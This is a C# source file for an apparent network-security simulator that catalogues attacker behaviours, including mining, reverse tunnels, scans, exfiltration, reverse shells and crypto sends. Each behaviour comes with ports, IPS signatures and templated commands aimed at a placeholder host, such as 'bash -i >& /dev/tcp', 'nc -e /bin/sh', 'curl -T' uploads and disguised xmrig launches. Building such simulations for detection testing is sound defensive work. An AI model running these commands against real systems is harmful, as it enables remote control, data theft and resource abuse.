// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Simulation.Plans;
using FwCorrelate.Simulation.World;

namespace FwCorrelate.Simulation.Fleet;

/// <summary>The shape of an act's traffic.</summary>
internal enum ActShape
{
    /// <summary>A connection that stays and is opened again when it is lost.</summary>
    Stays,

    /// <summary>A short exchange or two.</summary>
    Once,

    /// <summary>Much goes out.</summary>
    Upload,

    /// <summary>Probes of many internal addresses.</summary>
    Sweep,

    /// <summary>Refused on one port after the other.</summary>
    Hops,
}

/// <summary>
/// A kind of act: what it looks like on the network and in commands. <c>%host%</c> and <c>%port%</c> are its destination.
/// </summary>
/// <param name="Ports">One is drawn for each destination.</param>
/// <param name="Literal">Grammar of commands that name the destination.</param>
/// <param name="Opaque">Grammar of commands that do not.</param>
/// <param name="Payload">Line of a script that does it.</param>
internal sealed record ActKind(string Name, ActShape Shape, IReadOnlyList<int> Ports, string Literal, string Opaque, string Payload)
{
    /// <summary>What intrusion prevention makes of it; null for nothing.</summary>
    public Signature? Signature { get; init; }

    /// <summary>The grammar of its own commands, as they tell of the destination.</summary>
    public string GrammarOf(Saying saying) => saying switch
    {
        Saying.Literal or Saying.Name => Literal,
        Saying.Opaque => Opaque,
        _ => Payload,
    };
}

/// <summary>All kinds of acts, each with ports and commands that the field has seen for it.</summary>
internal static class ActCatalogue
{
    private static readonly Signature Mining = new(
        "073a1475-6e11-43e2-8b28-000000000012", "主机存在挖矿行为", "Mining behavior on the host", "挖矿行为", "Mining Behavior", 3);

    private static readonly Signature Shell = new(
        "073a1475-6e11-43e2-8b28-000000000013", "反弹Shell", "Reverse Shell", "反弹Shell", "Reverse Shell", 3);

    private static readonly Signature Abnormal = new(
        "073a1475-6e11-43e2-8b28-000000000001", "异常外联", "Abnormal outbound connection", "异常连接", "Abnormal Connection", 1);

    public static IReadOnlyList<ActKind> All { get; } =
    [
        new("mine", ActShape.Stays, [3333, 4444, 14444, 3334, 45700, 5555],
            "«nohup ¦setsid ¦cd /tmp && nohup ¦»./«xmrig¦w¦bench¦.cache/kswap» «-o ¦--url=¦-a rx/0 -o "
            + "»«stratum+tcp://¦stratum+ssl://¦»%host%:%port%« -u %word%¦» «--threads %n% ¦-t %n% ¦»«> /dev/null 2>&1 &¦>/tmp/%word%.log "
            + "2>&1 &¦-B»",
            "«bash setup.sh¦./setup.sh«¦ --%word%»¦python3 warm_cache.py¦make -C bench run»",
            "nohup ./w -o %host%:%port% -u %word% >/dev/null 2>&1 &") { Signature = Mining },
        new("tunnel", ActShape.Stays, [22],
            "ssh «-o StrictHostKeyChecking=no ¦-i /tmp/k ¦»«-o ServerAliveInterval=%n%0 ¦»-f«NT¦N» -R %big%:localhost:22 "
            + "«u¦build¦dev»@%host%",
            "«python tool.py --go¦python3 tools/link.py¦bash scripts/%word%_up.sh»",
            "ssh -fN -R 2222:localhost:22 u@%host%") { Signature = Abnormal },
        new("edge", ActShape.Stays, [7844],
            "«nohup ¦»cloudflared tunnel «--no-autoupdate ¦»--edge %host%:%port% --url http://localhost:%big% «run ¦»>/dev/null 2>&1 &",
            "«./expose.sh¦python3 share_preview.py«¦ --%word%»¦npm run preview»",
            "cloudflared tunnel --edge %host%:%port% --url http://localhost:8888 run &"),
        new("scan", ActShape.Sweep, [22, 2375, 6379, 9200, 10250, 3306],
            "«nmap -«Pn¦sT¦n» -p %port% %range%.0/24¦for i in $(seq 1 254); do nc -z -w 1 %range%.$i %port% && echo %range%.$i; "
            + "done¦masscan %range%.0/24 -p%port% --rate %big%»",
            "«python probe.py¦python3 inventory.py«¦ --all»¦go run ./cmd/discover»",
            "for i in $(seq 1 254); do nc -z -w 1 %range%.$i %port%; done"),
        new("exfiltrate", ActShape.Upload, [443, 8443, 9000],
            "«curl -«sS¦k¦s» -T «out.tar.gz¦%word%.pt¦data.tgz» https://%host%:%port%/%word%¦tar cz . | nc %host% %port%¦rclone copyto "
            + "%word%.pt http://%host%:%port%/%word%»",
            "«python3 sync_results.py¦bash archive.sh¦python3 -m app.backup»",
            "curl -s -T out.tar.gz https://%host%:%port%/u"),
        new("contact", ActShape.Once, [25, 587, 465],
            "«swaks --to %word%@example.net --server %host%:%port%¦curl -s --url smtp://%host%:%port% --mail-rcpt %word%@example.net -T "
            + "note.txt»",
            "«python3 notify.py¦python3 -m app.report --send»",
            "curl -s --url smtp://%host%:%port% --mail-rcpt a@example.net -T note.txt"),
        new("tokens", ActShape.Once, [8333, 30303, 18080],
            "«cast send --rpc-url http://%host%:%port% %word%¦bitcoin-cli -rpcconnect=%host% -rpcport=%port% sendtoaddress %word% "
            + "0.0%n%¦curl -s http://%host%:%port% -d '{\"method\":\"eth_sendRawTransaction\"}'»",
            "«python3 settle.py¦node scripts/payout.js»",
            "curl -s http://%host%:%port% -d @tx.json"),
        new("hop", ActShape.Hops, [5555, 7777, 9999, 4444],
            "«for p in 5555 7777 9999 4444; do nc -w 2 %host% $p < id.txt && break; done¦for p in 5555 7777 9999 4444; do timeout 3 bash "
            + "-c \"exec 3<>/dev/tcp/%host%/$p\"; done»",
            "«python3 connect_any.py¦bash retry_ports.sh»",
            "for p in 5555 7777 9999 4444; do nc -w 2 %host% $p; done"),
        new("shell", ActShape.Stays, [4444, 9001, 5555],
            "«bash -i >& /dev/tcp/%host%/%port% 0>&1¦nc -e /bin/sh %host% %port%¦python3 -c 'import "
            + "socket,os;s=socket.create_connection((\"%host%\",%port%));os.dup2(s.fileno(),0)'»",
            "«python3 debug_attach.py¦./remote_dbg»",
            "bash -i >& /dev/tcp/%host%/%port% 0>&1") { Signature = Shell },
    ];

    public static IReadOnlyList<string> Names { get; } = [.. All.Select(k => k.Name)];

    public static ActKind Of(string name) => All.First(k => k.Name == name);
}
